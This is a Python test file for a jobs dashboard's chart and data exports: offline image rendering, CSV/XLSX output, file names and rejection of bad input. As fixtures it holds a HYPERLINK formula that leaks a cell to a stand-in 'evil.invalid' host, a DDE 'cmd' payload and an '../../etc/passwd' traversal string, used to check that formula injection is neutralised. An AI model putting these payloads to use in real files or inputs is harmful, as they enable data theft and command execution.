"""Exports for reports (issue 5): decorated charts, PNG/SVG/PDF through kaleido on the system
Chromium (offline), CSV/XLSX data with formula injection neutralised, the missing-Chromium path."""
from __future__ import annotations

import csv
import io
import shutil
import xml.etree.ElementTree as ET
from pathlib import Path

import openpyxl
import pandas as pd
import plotly.io as pio
import pytest

from dashboard import figures, paths
from dashboard.building.build import build
from dashboard.reading.cube import Cube
from dashboard.errors import UsageError
from dashboard.exports import browser, charts, files, names, tables
from helpers import TINY_TAXONOMY as TAXONOMY_TINY
from helpers import export_view

SOFTWARE_DEVELOPER = "https://fixture.invalid/occupation/software-developer"
ELECTRICIAN = "https://fixture.invalid/occupation/electrician"
#: A skill label a spreadsheet would run as a formula if it were written as it is.
INJECTED_LABEL = '=HYPERLINK("http://evil.invalid/?leak="&A1,"HTML")'

POSTINGS = """id,occupation,country,date,skills
p01,software developer,DE,2024-01-10,https://fixture.invalid/skill/python|https://fixture.invalid/skill/html
p02,software developer,DE,2024-02-03,https://fixture.invalid/skill/python
p03,software developer,DE,2024-03-15,https://fixture.invalid/skill/html|https://fixture.invalid/skill/lead-team
p04,software developer,FR,2024-02-20,https://fixture.invalid/skill/python
p05,software developer,CI,2024-04-01,https://fixture.invalid/skill/write-code
p06,software developer,DE,2024-06-30,https://fixture.invalid/skill/python
p07,electrician,FR,2024-01-05,https://fixture.invalid/skill/wiring
p08,electrician,FR,2024-05-05,
"""


def write_taxonomy_with_injected_label(folder: Path) -> Path:
    """taxonomy_tiny with the HTML skill renamed to a spreadsheet formula."""
    shutil.copytree(TAXONOMY_TINY, folder)
    skills_file = folder / "skills_en.csv"
    with skills_file.open(newline="", encoding="utf-8") as stream:
        rows = list(csv.DictReader(stream))
    for row in rows:
        if row["conceptUri"].endswith("/skill/html"):
            row["preferredLabel"] = INJECTED_LABEL
    with skills_file.open("w", newline="", encoding="utf-8") as stream:
        writer = csv.DictWriter(stream, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    return folder


def build_small_cube(folder: Path) -> Path:
    """A published cube: the tiny taxonomy (one formula label) and eight hand-written postings."""
    folder.mkdir(parents=True, exist_ok=True)
    taxonomy = write_taxonomy_with_injected_label(folder / "taxonomy")
    postings = folder / "postings.csv"
    postings.write_text(POSTINGS, encoding="utf-8")
    data_dir = folder / "cube"
    build(esco=[taxonomy], postings=[postings], data_dir=data_dir, progress=False)
    return data_dir


@pytest.fixture(scope="module")
def cube(tmp_path_factory) -> Cube:
    return Cube.open(build_small_cube(tmp_path_factory.mktemp("exports")))


# -- formula injection -------------------------------------------------------------------


@pytest.mark.parametrize(
    "value, expected",
    [
        ("=HYPERLINK(\"http://x\")", "'=HYPERLINK(\"http://x\")"),
        ("+49 30 1234", "'+49 30 1234"),
        ("-1+2", "'-1+2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("software developer", "software developer"),
        ("C++ (programming)", "C++ (programming)"),  # only a leading sign is a formula
        ("", ""),
        (-3, -3),  # numbers stay numbers
        (None, None),
    ],
)
def test_neutralise(value, expected):
    assert tables.neutralise(value) == expected


def test_csv_is_utf8_with_bom_and_header_and_round_trips_through_pandas():
    frame = pd.DataFrame({"country": ["Côte d'Ivoire", "Zürich"], "jobs": [3, 1], "share": [0.25, float("nan")]})
    data = tables.to_csv_bytes(frame)
    assert data.startswith(b"\xef\xbb\xbf")  # Excel reads UTF-8 only with the BOM
    assert data[3:].split(b"\r\n")[0] == b"country,jobs,share"
    back = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig")
    assert back["country"].tolist() == ["Côte d'Ivoire", "Zürich"]
    assert back["jobs"].tolist() == [3, 1]
    assert back["share"].iloc[0] == 0.25 and pd.isna(back["share"].iloc[1])


def test_csv_formula_cell_comes_out_as_text():
    frame = pd.DataFrame({"skill": [INJECTED_LABEL, "HTML"], "postings": [2, -1]})
    back = pd.read_csv(io.BytesIO(tables.to_csv_bytes(frame)), encoding="utf-8-sig")
    assert back["skill"].tolist() == ["'" + INJECTED_LABEL, "HTML"]
    assert back["postings"].tolist() == [2, -1]  # a negative number is not text: untouched


def test_xlsx_opens_with_openpyxl_and_stores_formula_text_as_text():
    frame = pd.DataFrame({"skill": [INJECTED_LABEL, "HTML"], "postings": [2, 1], "share": [0.5, float("nan")]})
    data = tables.to_xlsx_bytes(frame, sheet_name="Skill demand: top/20", about={"Occupation": "=cmd|' /C calc'!A0"})
    book = openpyxl.load_workbook(io.BytesIO(data))
    sheet = book.worksheets[0]
    assert sheet.title == "Skill demand  top 20"  # : and / are not allowed in sheet names
    assert [c.value for c in sheet[1]] == ["skill", "postings", "share"]
    cell = sheet["A2"]
    assert cell.data_type == "s" and cell.value == INJECTED_LABEL  # text, never a formula
    assert cell.quotePrefix  # what Excel itself records for text typed as '=...
    assert sheet["B2"].value == 2 and sheet["C3"].value is None
    about = book["about"]
    assert about["B1"].data_type == "s" and about["B1"].value == "=cmd|' /C calc'!A0"


# -- the data behind each chart ----------------------------------------------------------------


@pytest.mark.parametrize(
    "chart, columns",
    [
        ("map", ["country", "iso3", "jobs", "jobs_per_million", "share_of_country_postings", "country_postings", "rank",
                 "location_quotient", "pay_currency", "pay_period", "pay_median_min", "pay_median_max",
                 "postings_stating_pay", "postings",
                 *[f"{kind}_{c}" for c in ("digital", "green", "transversal", "language", "research", "digcomp")
                   for kind in ("postings_asking", "share_asking")]]),
        ("skills", ["rank", "skill", "postings", "share_of_occupation_postings", "group", "skill_uri"]),
        ("breakdown", ["group", "skill", "relation", "skill_type", "skill_uri", "description"]),
        ("trend", ["month", "jobs"]),
    ],
)
def test_data_frame_columns(cube, chart, columns):
    frame = tables.data_frame_for(cube, chart, export_view(cube, SOFTWARE_DEVELOPER))
    assert list(frame.columns) == columns
    assert not frame.empty


def test_map_data_has_countries_with_postings_most_jobs_first(cube):
    frame = tables.data_frame_for(cube, "map", export_view(cube, SOFTWARE_DEVELOPER, start="2024-01", end="2024-03"))
    assert frame["iso3"].tolist()[:2] == ["DEU", "FRA"]
    assert frame["jobs"].tolist()[:2] == [3, 1]
    assert "CIV" not in frame["iso3"].tolist()  # its only posting is in April


def test_trend_data_is_one_row_per_month_in_the_country(cube):
    frame = tables.data_frame_for(cube, "trend", export_view(cube, SOFTWARE_DEVELOPER, iso3="DEU"))
    assert frame["month"].tolist() == ["2024-01", "2024-02", "2024-03", "2024-04", "2024-05", "2024-06"]
    assert frame["jobs"].tolist() == [1, 1, 1, 0, 0, 1]


def test_skill_data_carries_the_formula_label_neutralised_in_csv(cube):
    _, data = files.export_file(cube, "skills", "csv", export_view(cube, SOFTWARE_DEVELOPER))
    back = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig")
    assert "'" + INJECTED_LABEL in back["skill"].tolist()
    assert not [s for s in back["skill"] if s.startswith(tables.FORMULA_PREFIXES)]


def test_xlsx_export_has_data_and_about_sheets(cube):
    name, data = files.export_file(cube, "map", "xlsx", export_view(cube, SOFTWARE_DEVELOPER, measure="per_million"))
    assert name == "jobs-map_software-developer_2024-01_2024-06.xlsx"
    book = openpyxl.load_workbook(io.BytesIO(data))
    assert book.sheetnames == ["Map", "about"]
    about = {row[0].value: row[1].value for row in book["about"].iter_rows()}
    assert about["Occupation"] == "software developer"
    assert about["Map measure"] == "Jobs per million inhabitants"
    assert about["Source"].endswith("ESCO classification of the European Commission")


# -- file names and bad requests -------------------------------------------------------------


@pytest.mark.parametrize(
    "chart, fmt, options, expected",
    [
        ("map", "png", {}, "jobs-map_software-developer_2024-01_2024-06.png"),
        ("map", "svg", {"iso3": "DEU"}, "jobs-map_software-developer_2024-01_2024-06.svg"),
        ("skills", "csv", {"iso3": "DEU", "start": "2024-02"}, "skill-demand_software-developer_deu_2024-02_2024-06.csv"),
        ("trend", "pdf", {"start": "2023-01", "end": "2024-03"}, "jobs-trend_software-developer_2024-01_2024-03.pdf"),
    ],
)
def test_export_filename(cube, chart, fmt, options, expected):
    view = export_view(cube, SOFTWARE_DEVELOPER, **options)
    assert files.export_filename(cube, chart, fmt, view) == expected


@pytest.mark.parametrize(
    "options, message",
    [
        ({"occupation": "https://fixture.invalid/occupation/nobody"}, "not in this cube"),
        ({"occupation": ["a", "list"]}, "not in this cube"),
        ({"iso3": "ZZZ"}, "not an ISO 3166"),
        ({"iso3": 7}, "alpha-3"),
        ({"start": "2024-13"}, "YYYY-MM"),
        ({"end": "../../etc/passwd"}, "YYYY-MM"),
        ({"measure": "salary"}, "measure"),
    ],
)
def test_the_view_of_an_export_rejects_bad_input(cube, options, message):
    # The Export menu reads the store strictly: a forged field is refused, never exported as something else.
    options = {"occupation": SOFTWARE_DEVELOPER, **options}
    with pytest.raises(UsageError, match=message):
        export_view(cube, options.pop("occupation"), **options)


@pytest.mark.parametrize("chart, fmt", [("pie", "png"), ("map", "gif")])
def test_export_file_rejects_unknown_chart_or_format(cube, chart, fmt):
    with pytest.raises(UsageError):
        files.export_file(cube, chart, fmt, export_view(cube, SOFTWARE_DEVELOPER))


# -- decorated charts ---------------------------------------------------------------------------


def _texts(figure) -> str:
    layout = figure.layout
    parts = [layout.title.text or "", layout.title.subtitle.text or ""]
    parts += [a.text or "" for a in layout.annotations]
    return "\n".join(parts)


@pytest.mark.parametrize(
    "chart, options, title, subtitle_part",
    [
        ("map", {"measure": "per_million"}, "Software developer: jobs per million inhabitants by country",
         "Jobs per million inhabitants"),
        ("skills", {"iso3": "DEU"}, "Software developer: skills asked for in Germany", "Postings asking for each skill"),
        ("breakdown", {}, "Software developer: skills in the occupation profile", "Number of skills"),
        ("trend", {"start": "2024-02", "end": "2024-04"}, "Software developer: jobs per month in all countries",
         "Feb 2024 – Apr 2024"),
    ],
)
def test_chart_figure_stands_alone(cube, chart, options, title, subtitle_part):
    figure = charts.chart_figure(cube, chart, export_view(cube, SOFTWARE_DEVELOPER, **options))
    assert figure.layout.title.text == f"<b>{title}</b>"
    assert subtitle_part in figure.layout.title.subtitle.text
    sources = [a.text for a in figure.layout.annotations if a.text.startswith("Source: ")]
    assert sources == ["Source: postings.csv; ESCO classification of the European Commission"]


def test_chart_period_is_the_data_period_when_none_is_given(cube):
    figure = charts.chart_figure(cube, "trend", export_view(cube, SOFTWARE_DEVELOPER))
    assert figure.layout.title.subtitle.text.startswith("Jan 2024 – Jun 2024")


def test_decorate_escapes_labels_from_data():
    figure = charts.decorate_for_report(figures.empty_figure("x"), title="<b>bold</b> & co", period="Jan 2024",
                                         units="Jobs", source="Source: <script>")
    assert "&lt;b&gt;bold&lt;/b&gt; &amp; co" in figure.layout.title.text
    assert "Source: &lt;script&gt;" in _texts(figure)


def test_map_export_reads_local_boundaries(cube):
    figure = charts.chart_figure(cube, "map", export_view(cube, SOFTWARE_DEVELOPER))
    assert len(figure.data) == 3  # the grey no-data base, the data trace and the Pay measure's grey countries
    for trace in figure.data:
        assert trace.geojson == paths.COUNTRIES_GEOJSON.resolve().as_uri()


# -- rendering (needs Chromium) -----------------------------------------------------------------


def test_chromium_missing_is_explained(monkeypatch):
    monkeypatch.setenv("BROWSER_PATH", "/nonexistent/chromium")
    reason = browser.chromium_available()
    assert reason and "apt-get install -y chromium" in reason and "/nonexistent/chromium" in reason


def test_chromium_that_does_not_run_is_explained(monkeypatch, tmp_path):
    broken = tmp_path / "chromium"
    broken.write_text("#!/bin/sh\necho 'cannot open display' >&2\nexit 3\n")
    broken.chmod(0o755)
    monkeypatch.setenv("BROWSER_PATH", str(broken))
    reason = browser.chromium_available()
    assert reason and "cannot open display" in reason


def test_image_export_without_chromium_raises_a_readable_error(cube, monkeypatch):
    browser.stop_renderer()
    monkeypatch.setenv("BROWSER_PATH", "/nonexistent/chromium")
    with pytest.raises(browser.ExportUnavailable, match="apt-get install"):
        files.export_file(cube, "trend", "png", export_view(cube, SOFTWARE_DEVELOPER))


@pytest.mark.parametrize("fmt", names.IMAGE_FORMATS)
def test_image_bytes(cube, chromium, fmt):
    name, data = files.export_file(cube, "skills", fmt, export_view(cube, SOFTWARE_DEVELOPER, iso3="DEU"))
    assert name.endswith(f".{fmt}")
    if fmt == "png":
        assert data.startswith(b"\x89PNG\r\n\x1a\n")
        width, height = int.from_bytes(data[16:20], "big"), int.from_bytes(data[20:24], "big")
        assert (width, height) == (browser.DEFAULT_WIDTH * 2, browser.DEFAULT_HEIGHT * 2)  # report resolution
    elif fmt == "pdf":
        assert data.startswith(b"%PDF-")
    else:
        root = ET.fromstring(data)
        assert root.tag.endswith("svg")
        text = "".join(root.itertext())
        assert "Skills asked for in Germany".lower() in text.lower()
        assert "ESCO classification of the European Commission" in text


def test_renderer_stays_warm_between_exports(cube, chromium):
    browser.figure_bytes(figures.empty_figure("one"), "png")
    first = browser._renderer
    browser.figure_bytes(figures.empty_figure("two"), "svg")
    assert browser._renderer is first and first is not None


def _first_render_fails(monkeypatch, message):
    """The warm renderer's first render raises kaleido's JavascriptError; later ones really render."""
    from kaleido._kaleido_tab._errors import JavascriptError

    browser.figure_bytes(figures.empty_figure("warm"), "svg")
    renderer, real, calls = browser._renderer, browser._WarmKaleido._render_once, []

    def flaky(self, figure, opts):
        calls.append(figure)
        if len(calls) == 1:
            raise JavascriptError(message)
        return real(self, figure, opts)

    monkeypatch.setattr(browser._WarmKaleido, "_render_once", flaky)
    return renderer, calls


def test_export_survives_a_kaleido_page_that_was_not_ready(cube, chromium, monkeypatch):
    # Under heavy load kaleido once sent a figure before its page script had defined kaleido_scopes.
    renderer, calls = _first_render_fails(monkeypatch, "{'className': 'ReferenceError', 'description': "
                                                       "'ReferenceError: kaleido_scopes is not defined'}")
    svg = browser.figure_bytes(figures.empty_figure("after a page that was not ready"), "svg").decode("utf-8")
    assert len(calls) == 2 and "after a page that was not ready" in svg
    assert browser._renderer is renderer  # the browser was kept, not restarted


def test_other_render_errors_are_not_retried(cube, chromium, monkeypatch):
    _, calls = _first_render_fails(monkeypatch, "TypeError: cannot read properties of undefined")
    with pytest.raises(browser.ExportUnavailable, match="TypeError"):
        browser.figure_bytes(figures.empty_figure("broken"), "svg")
    assert len(calls) == 1


def test_map_renders_offline_from_the_local_topology(cube, chromium):
    data = browser.figure_bytes(charts.chart_figure(cube, "map", export_view(cube, SOFTWARE_DEVELOPER)), "svg")
    assert pio.defaults.topojson == browser.topojson_url()
    assert browser.topojson_url().startswith("file://") and (paths.TOPOJSON_DIR / "world_110m.json").is_file()
    svg = data.decode("utf-8")
    # The base map (land, ocean) is drawn from world_110m.json; the countries from the geojson file.
    assert figures.OCEAN_COLOUR.lower() in svg.lower() or "rgb(238, 244, 248)" in svg
    assert svg.count("<path") > 100


def test_export_browser_has_no_network(cube, chromium, monkeypatch):
    # The same map with plotly's default CDN topology: the request is blocked, so the render fails.
    monkeypatch.setattr(browser, "topojson_url", lambda: "https://cdn.plot.ly/un/")
    with pytest.raises(browser.ExportUnavailable, match="topojson"):
        browser.figure_bytes(charts.chart_figure(cube, "map", export_view(cube, SOFTWARE_DEVELOPER)), "png")
